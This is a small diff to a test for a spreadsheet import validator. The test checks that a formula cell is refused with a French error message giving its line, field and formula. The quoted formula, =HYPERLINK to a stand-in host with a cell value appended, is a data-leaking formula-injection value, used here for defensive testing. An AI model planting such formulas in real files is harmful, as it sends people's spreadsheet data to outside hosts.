@@ -195,7 +195,7 @@ async def test_a_workbook_formula_cell_is_refused_naming_its_line_and_column(
             {
                 "line": 3,
                 "field": "nom_structure",
-                "message": 'Formule refusée : la cellule contient la formule « =HYPERLINK("http://exemple.invalid/?"&… » ; '
+                "message": 'Formule refusée : la cellule contient la formule « =HYPERLINK("http://exemple.invalid/?"&B2… » ; '
                 "remplacez-la par sa valeur (copier, puis collage spécial « valeurs seulement »).",
             },
             {
